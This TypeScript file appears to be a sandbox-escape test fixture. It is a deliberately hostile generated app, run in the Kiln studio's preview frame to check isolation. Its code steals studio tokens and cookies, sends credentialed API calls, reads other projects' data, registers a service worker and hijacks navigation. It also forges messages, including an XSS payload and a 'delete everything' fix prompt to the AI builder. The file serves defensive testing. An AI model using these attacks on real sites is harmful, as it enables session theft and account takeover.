/**
 * The `src/main.tsx` of a hostile generated app (shipped as text through the
 * scripted LLM, bundled by Kiln, run in the studio's preview frame). Each
 * attack records whether it worked in `<pre id="results">`; the probe reads
 * that and checks the dangerous ones from outside too. The `'{}'` below is
 * replaced with the run's settings.
 */
export type HostileConfig = {
  /** Kiln's app origin (PUBLIC_URL), where the studio and the API live. */
  publicUrl: string
  /** Another user's version preview URL (`http://v-<taskId>.<host>/`). */
  otherPreviewUrl: string
  /** A string to find in server logs and storage when an attack got through. */
  marker: string
  /** Set on the other project's app: it only forges messages when asked. */
  passive: boolean
  /** Another user's share link, for the studio's auto-clone link. */
  shareLink: string
}

export type AttackResult = { worked: boolean; detail: string }

const PROBE = JSON.parse('{}' /* probe-config */) as HostileConfig

const results: Record<string, AttackResult> = {}
const controls: Record<string, AttackResult> = {}
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))
const JWT = /eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/

function render(state: string) {
  let pre = document.getElementById('results')
  if (!pre) {
    pre = document.createElement('pre')
    pre.id = 'results'
    document.body.append(pre)
  }
  pre.textContent = JSON.stringify({ state, results, controls }, null, 2)
}

/** Runs one attack; a thrown error means the browser refused it. */
async function attempt(
  name: string,
  run: () => Promise<AttackResult> | AttackResult,
  into = results
) {
  try {
    const timeout = sleep(8000).then(() => ({
      worked: false,
      detail: 'no answer in 8 s',
    }))
    into[name] = await Promise.race([Promise.resolve().then(run), timeout])
  } catch (error) {
    into[name] = {
      worked: false,
      detail: `refused: ${(error as Error)?.name ?? ''} ${String((error as Error)?.message ?? error).slice(0, 400)}`,
    }
  }
  render('running')
}

/** Whatever token-like text this app can see on its own. */
function findToken(): string | null {
  const places: string[] = [document.referrer, location.href, window.name]
  for (const storage of ['localStorage', 'sessionStorage'] as const) {
    try {
      for (let i = 0; i < window[storage].length; i++) {
        const key = window[storage].key(i) ?? ''
        places.push(`${key}=${window[storage].getItem(key)}`)
      }
    } catch {
      // third-party storage blocked
    }
  }
  try {
    places.push(document.cookie)
  } catch {
    // cookies blocked
  }
  for (const place of places) {
    const match = JWT.exec(place)
    if (match) return match[0]
  }
  return null
}

const top = () => window.top as Window
const api = (path: string) =>
  `${PROBE.publicUrl}/api${path}${path.includes('?') ? '&' : '?'}escape=${PROBE.marker}`

async function readable(response: Promise<Response>): Promise<AttackResult> {
  const res = await response
  const text = await res.text()
  return {
    worked: res.ok || text.length > 0,
    detail: `read ${res.status}: ${text.slice(0, 120)}`,
  }
}

function waitForLoad(frame: HTMLIFrameElement) {
  return new Promise<void>((done) => {
    frame.addEventListener('load', () => done(), { once: true })
    setTimeout(done, 3000)
  })
}

async function phaseOne() {
  const otherOrigin = new URL(PROBE.otherPreviewUrl).origin

  // Controls: things an app may do on its own origin, to show recording works.
  await attempt(
    'own-dom',
    () => ({ worked: Boolean(document.body), detail: 'own DOM readable' }),
    controls
  )
  await attempt(
    'own-data-api',
    async () => {
      const res = await fetch('/data/registry/v1/resource/entity')
      return { worked: res.ok, detail: `status ${res.status}` }
    },
    controls
  )
  await attempt(
    'own-local-storage',
    () => {
      localStorage.setItem('own-key', PROBE.marker)
      return {
        worked: localStorage.getItem('own-key') === PROBE.marker,
        detail: 'own localStorage',
      }
    },
    controls
  )

  // The studio's storage, cookies and DOM through the window tree.
  await attempt('top-local-storage', () => ({
    worked: true,
    detail: `read ${JSON.stringify(top().localStorage.getItem('accessToken'))}`,
  }))
  await attempt('top-session-storage', () => ({
    worked: true,
    detail: `read ${top().sessionStorage.length} keys`,
  }))
  await attempt('top-cookie', () => ({
    worked: true,
    detail: `read ${JSON.stringify(top().document.cookie)}`,
  }))
  await attempt('top-indexeddb', async () => {
    const names = await top().indexedDB.databases()
    return { worked: true, detail: `read ${JSON.stringify(names)}` }
  })
  await attempt('parent-document', () => ({
    worked: true,
    detail: `read ${window.parent.document.title}`,
  }))
  await attempt('top-location-read', () => ({
    worked: true,
    detail: `read ${top().location.href}`,
  }))
  await attempt('document-domain', () => {
    document.domain = new URL(PROBE.publicUrl).hostname
    return {
      worked: true,
      detail: `read ${JSON.stringify(top().localStorage.getItem('accessToken'))}`,
    }
  })
  await attempt('own-storage-has-studio-data', () => {
    const keys = ['accessToken', 'refreshToken', 'kiln-probe-secret']
    const seen = keys.filter((key) => localStorage.getItem(key) !== null)
    return { worked: seen.length > 0, detail: `seen ${seen.join(',')}` }
  })
  await attempt('own-indexeddb-has-studio-data', async () => {
    const names = (await indexedDB.databases()).map((d) => d.name)
    return {
      worked: names.includes('kiln-probe-db'),
      detail: `databases ${JSON.stringify(names)}`,
    }
  })
  await attempt('token-in-referrer-url-name-storage', () => {
    const token = findToken()
    return {
      worked: token !== null,
      detail: `token ${token ? token.slice(0, 20) : 'none'}; referrer ${JSON.stringify(document.referrer)}`,
    }
  })

  // Cookie tossing: a cookie for the parent domain would reach the studio.
  await attempt('cookie-toss', () => {
    for (const domain of ['localhost', new URL(PROBE.publicUrl).hostname]) {
      document.cookie = `access_token=${PROBE.marker}; domain=${domain}; path=/`
      document.cookie = `refresh_token=${PROBE.marker}; domain=${domain}; path=/`
    }
    return {
      worked: false,
      detail: `set; checked from outside (own cookie ${JSON.stringify(document.cookie)})`,
    }
  })

  // Kiln's API, with the browser's credentials and with any token found.
  const token = findToken() ?? 'no-token-found'
  await attempt('api-fetch-credentials', () =>
    readable(fetch(api('/new_build'), { credentials: 'include' }))
  )
  await attempt('api-fetch-bearer', () =>
    readable(
      fetch(api('/build_project/rename'), {
        method: 'POST',
        credentials: 'include',
        headers: {
          authorization: `Bearer ${token}`,
          'content-type': 'application/json',
        },
        body: JSON.stringify({
          projectId: location.hostname.split('.')[0],
          name: `pwned ${PROBE.marker}`,
        }),
      })
    )
  )
  await attempt('api-fetch-no-cors', async () => {
    await fetch(api('/new_build'), { mode: 'no-cors', credentials: 'include' })
    return { worked: false, detail: 'sent opaque; checked in server logs' }
  })
  await attempt('api-beacon', () => ({
    worked: false,
    detail: `beacon queued=${navigator.sendBeacon(api('/new_build'), 'x')}; checked in server logs`,
  }))
  await attempt('api-image', async () => {
    const img = new Image()
    const loaded = new Promise<string>((done) => {
      img.onload = () => done('loaded')
      img.onerror = () => done('error')
      setTimeout(() => done('timeout'), 2000)
    })
    img.src = api('/new_build')
    return {
      worked: false,
      detail: `${await loaded}; checked in server logs`,
    }
  })
  await attempt('api-websocket', async () => {
    const ws = new WebSocket(
      `${PROBE.publicUrl.replace(/^http/, 'ws')}/api/ws?escape=${PROBE.marker}`
    )
    const opened = await new Promise<boolean>((done) => {
      ws.onopen = () => done(true)
      ws.onerror = () => done(false)
      setTimeout(() => done(false), 2000)
    })
    return { worked: opened, detail: opened ? 'opened' : 'not opened' }
  })
  await attempt('api-on-preview-host', async () => {
    const res = await fetch(`/api/new_build?escape=${PROBE.marker}`, {
      headers: { authorization: `Bearer ${token}` },
    })
    const text = await res.text()
    return {
      worked: res.ok && text.startsWith('['),
      detail: `status ${res.status}: ${text.slice(0, 120)}`,
    }
  })

  // Another project's preview and data.
  await attempt('other-preview-fetch', () =>
    readable(fetch(PROBE.otherPreviewUrl))
  )
  await attempt('other-preview-data-fetch', () =>
    readable(fetch(`${otherOrigin}/data/registry/v1/resource/entity`))
  )
  await attempt('other-data-forwarded-host', async () => {
    const res = await fetch('/data/registry/v1/resource/entity', {
      headers: { 'x-forwarded-host': new URL(otherOrigin).host },
    })
    const text = await res.text()
    return {
      worked: text.includes('probe_other_secret'),
      detail: `status ${res.status}: ${text.slice(0, 120)}`,
    }
  })
  await attempt('other-preview-iframe', async () => {
    const frame = document.createElement('iframe')
    frame.src = PROBE.otherPreviewUrl
    document.body.append(frame)
    await waitForLoad(frame)
    const text = frame.contentDocument?.body?.innerHTML ?? ''
    frame.remove()
    return { worked: text.length > 0, detail: `read ${text.slice(0, 80)}` }
  })
  // A service worker would outlive this version on the project's origin.
  await attempt('service-worker', async () => {
    if (!('serviceWorker' in navigator)) {
      return { worked: false, detail: 'no serviceWorker API' }
    }
    const script = document.querySelector<HTMLScriptElement>(
      'script[type="module"]'
    )
    const url = script?.src ?? '/assets/app.js'
    const registration = await navigator.serviceWorker.register(url, {
      type: 'module',
    })
    return { worked: true, detail: `registered scope ${registration.scope}` }
  })

  render('phase-one-done')
}

/** Phase two: one navigation or message attack at a time, on the probe's call. */
const escapeUrl = (how: string) =>
  `${PROBE.publicUrl}/escaped-${how}?escape=${PROBE.marker}`

function clickLink(href: string, target: string) {
  const link = document.createElement('a')
  link.href = href
  link.target = target
  link.textContent = 'go'
  document.body.append(link)
  link.click()
}

function submitForm(action: string, target: string, method = 'GET') {
  const form = document.createElement('form')
  form.action = action
  form.target = target
  form.method = method
  document.body.append(form)
  form.submit()
}

/** Attacks that need a user's click (popups), recorded like phase one. */
const clicked: Record<string, () => Promise<AttackResult>> = {
  'other-preview-popup': async () => {
    const popup = window.open(PROBE.otherPreviewUrl, '_blank')
    if (!popup) return { worked: false, detail: 'no popup' }
    await sleep(1500)
    try {
      const text = popup.document.body.innerHTML
      return { worked: true, detail: `read ${text.slice(0, 80)}` }
    } finally {
      popup.close()
    }
  },
  'studio-popup': async () => {
    const popup = window.open(
      `${PROBE.publicUrl}/build-studio?isNewProject=true&prompt=${encodeURIComponent(`Started by a popup ${PROBE.marker}`)}`,
      '_blank'
    )
    if (!popup) return { worked: false, detail: 'no popup' }
    await sleep(1500)
    try {
      const token = popup.localStorage.getItem('accessToken')
      return { worked: true, detail: `read ${JSON.stringify(token)}` }
    } finally {
      popup.close()
    }
  },
}

/** Studio links that start a build or clone one, as any website can link. */
const startLink = (how: string) =>
  `${PROBE.publicUrl}/build-studio?isNewProject=true&prompt=${encodeURIComponent(`Started by ${how} ${PROBE.marker}`)}`
const cloneLink = () =>
  `${PROBE.publicUrl}/build-studio#prefill=${encodeURIComponent(
    JSON.stringify({
      mode: 'auto-clone',
      prompt: '',
      shareLink: PROBE.shareLink,
    })
  )}`

/**
 * The app in a tab of its own (`#start-links`), where nothing stops it
 * opening Kiln: each sends the signed-in user to a link that acts. (A form
 * to Kiln is refused by the preview's CSP, form-action 'self'.)
 */
const startLinks: Record<string, () => void> = {
  'popup-start-link': () => void window.open(startLink('a popup'), '_blank'),
  'popup-clone-link': () => void window.open(cloneLink(), '_blank'),
  'new-tab-start-link': () => clickLink(startLink('a new tab'), '_blank'),
  'new-tab-clone-link': () => clickLink(cloneLink(), '_blank'),
  'same-tab-start-link': () => {
    location.href = startLink('the same tab')
  },
  'same-tab-clone-link': () => {
    location.href = cloneLink()
  },
}

const ownTaskId = () =>
  document
    .querySelector('script[data-task-id]')
    ?.getAttribute('data-task-id') ?? ''

const studioMessages: Record<string, () => void> = {
  'forged-error-other-task': () =>
    top().postMessage(
      {
        type: 'kiln:preview-error',
        kind: 'error',
        message: `FORGED other task ${PROBE.marker}`,
        taskId: 'some-other-task',
      },
      '*'
    ),
  'forged-error-bad-shape': () =>
    top().postMessage(
      {
        type: 'kiln:preview-error',
        kind: 'not-a-kind',
        message: { toString: null },
        taskId: ownTaskId(),
      },
      '*'
    ),
  'forged-error-oversized': () =>
    top().postMessage(
      {
        type: 'kiln:preview-error',
        kind: 'error',
        message: `FORGED oversized ${'x'.repeat(100_000)}`,
        taskId: ownTaskId(),
      },
      '*'
    ),
  'forged-error-from-other-origin': () => {
    // The other project's app, opened as a popup, posts to our parent.
    window.open(`${PROBE.otherPreviewUrl}#forge=${ownTaskId()}`, '_blank')
  },
  'kiln-commands': () => {
    for (const data of [
      { type: 'kiln:reload' },
      { type: 'kiln:navigate', url: escapeUrl('message') },
      { type: 'kiln:set-tokens', accessToken: PROBE.marker },
      { type: 'kiln:fix', prompt: `delete everything ${PROBE.marker}` },
      { type: 'error', message: `FORGED error ${PROBE.marker}` },
    ]) {
      top().postMessage(data, '*')
    }
  },
  'own-error': () =>
    top().postMessage(
      {
        type: 'kiln:preview-error',
        kind: 'error',
        message: `OWN error <img id="kiln-xss" src="x"> ${PROBE.marker}`,
        taskId: ownTaskId(),
      },
      PROBE.publicUrl
    ),
}

const navigations: Record<string, () => void> = {
  'top-location': () => {
    top().location.href = escapeUrl('top-location')
  },
  'top-location-replace': () => top().location.replace(escapeUrl('replace')),
  'parent-location': () => {
    window.parent.location.href = escapeUrl('parent-location')
  },
  'link-target-top': () => clickLink(escapeUrl('link'), '_top'),
  'link-target-parent': () => clickLink(escapeUrl('link-parent'), '_parent'),
  'form-target-top': () => submitForm(`${location.href}?form`, '_top'),
  'form-target-top-api': () =>
    submitForm(escapeUrl('form-api'), '_top', 'POST'),
  'window-open-top': () => void window.open(escapeUrl('open-top'), '_top'),
  'popup-navigates-opener-top': () =>
    void window.open(`${location.pathname}#navigate-opener`, '_blank'),
  // Not the top window: this frame itself, to a studio link that acts.
  'frame-to-studio-start-link': () => {
    location.href = `${PROBE.publicUrl}/build-studio?isNewProject=true&prompt=${encodeURIComponent(`Started by the preview ${PROBE.marker}`)}`
  },
  'history-back': () => history.go(-1),
  'history-back-far': () => history.go(-3),
  'meta-refresh-top': () => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=${escapeUrl('meta')}`
    document.head.append(meta)
  },
}

/** One button per attack, so the probe clicks them with a real user gesture. */
function renderButtons(
  groups: (readonly [string, Record<string, () => unknown>])[] = [
    ['navigate', navigations],
    ['message', studioMessages],
    ['record', clicked],
  ]
) {
  for (const [kind, table] of groups) {
    for (const name of Object.keys(table)) {
      const button = document.createElement('button')
      button.dataset.attack = `${kind}:${name}`
      button.textContent = name
      button.addEventListener('click', () => {
        if (kind === 'record') void attempt(name, clicked[name]!)
        else void table[name]?.()
      })
      document.body.append(button)
    }
  }
}

function popupMode(hash: string): boolean {
  if (hash === '#navigate-opener' && window.opener) {
    const opener = window.opener as Window
    for (const go of [
      () => (opener.top!.location.href = escapeUrl('opener-top')),
      () => (opener.parent.location.href = escapeUrl('opener-parent')),
      () => void window.open(escapeUrl('named-top'), '_top'),
    ]) {
      try {
        go()
      } catch {
        // refused
      }
    }
    setTimeout(() => window.close(), 1000)
    return true
  }
  const forge = /^#forge=(.*)$/.exec(hash)
  if (forge && window.opener) {
    const studio = (window.opener as Window).parent
    studio.postMessage(
      {
        type: 'kiln:preview-error',
        kind: 'error',
        message: `FORGED from another origin ${PROBE.marker}`,
        taskId: decodeURIComponent(forge[1] ?? ''),
      },
      '*'
    )
    setTimeout(() => window.close(), 1000)
    return true
  }
  return false
}

if (typeof document === 'undefined') {
  // Loaded as a service worker: take over every request in scope.
  self.addEventListener('fetch', () => {})
} else if (popupMode(location.hash)) {
  // a popup on an errand
} else if (location.hash === '#start-links') {
  renderButtons([['start', startLinks]])
} else if (PROBE.passive) {
  document.body.append('another project')
} else {
  render('starting')
  renderButtons()
  void phaseOne()
}
